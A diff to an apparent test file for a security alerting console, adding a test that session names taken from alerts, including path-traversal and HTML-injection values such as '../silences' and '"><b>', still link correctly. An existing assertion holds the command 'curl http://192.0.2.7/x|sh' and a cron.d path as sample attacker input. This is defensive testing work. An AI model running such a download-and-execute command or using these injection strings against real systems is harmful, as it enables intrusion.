@@ -7,6 +7,7 @@ import re
 import socket
 from datetime import datetime, timedelta
 from html.parser import HTMLParser
+from pathlib import Path
 from urllib.parse import urlencode
 from zoneinfo import ZoneInfo
 
@@ -14,12 +15,22 @@ import pytest
 import requests
 from msgspec.structs import replace
 
+from bridge.alert.command import COMMAND_RULE
+from bridge.console.app import Console, console_app
+from bridge.console.backtest.runs import Backtests
+from bridge.console.data.reader import Reader
 from bridge.console.pages import search
 from bridge.console.view import in_utc
+from bridge.console.visitors.access import Access
+from bridge.journal.opening import open_for_router
+from bridge.operator.client import AdminClient
+from bridge.operator.serving.connection import ServedSockets
+from bridge.routing import Entry, Routed
 from bridge.workbench.condition import LoadedCondition, load_condition
 from tests.channels.hostile import CORPUS, WORD
 from tests.console.conftest import Visitor
 from tests.e2e.harness import Instance
+from tests.operator.serving import ask_unix, served, unix_sockets
 from tests.support.builders import alert
 from tests.support.waiting import wait_until
 
@@ -155,9 +166,24 @@ def test_sessions_show_what_was_typed(visitor: Visitor) -> None:
     text = visitor.get("/sessions").text
     assert "curl http://192.0.2.7/x|sh" in text
     assert "/etc/cron.d/x" in text
-    session = re.search(r"/sessions/[^\"]+", text)
+    session = re.search(r"/sessions\?session=[^\"]+", text)
     assert session is not None
     assert "cd /etc/cron.d" in visitor.get(session[0]).text
+
+
+@pytest.mark.parametrize("identity", ["../silences", "a/b", "..", "?x#y", " x ", '"><b>'])
+def test_a_session_leads_to_itself(tmp_path: Path, identity: str) -> None:
+    """Its name comes from an alert, which anybody may have sent."""
+    path, journal = tmp_path / "c.sock", tmp_path / "j.db"
+    fields = {"cmd.session": identity, "cmd.text": "whoami", "cmd.ran": "whoami-ran"}
+    writing = open_for_router(journal)
+    writing.alerts.append("s", 1, [Entry(alert(rule=COMMAND_RULE, fields=fields), Routed((), ()))])
+    writing.close()
+    console = Console(Reader(journal), AdminClient(tmp_path / "a"), Access(is_unix=True), Backtests("c.yaml"))
+    with served(ServedSockets(unix_sockets(path), console_app(console))):
+        text = ask_unix(path, "GET", "/sessions")[2].decode()
+        (link,) = (each for each in Elements(text).addresses if each.startswith("/sessions?"))
+        assert "whoami-ran" in ask_unix(path, "GET", link)[2].decode()
 
 
 @pytest.mark.parametrize("before", ["\u00b2", "9" * 19, "9" * 5000, "-1", "x"])
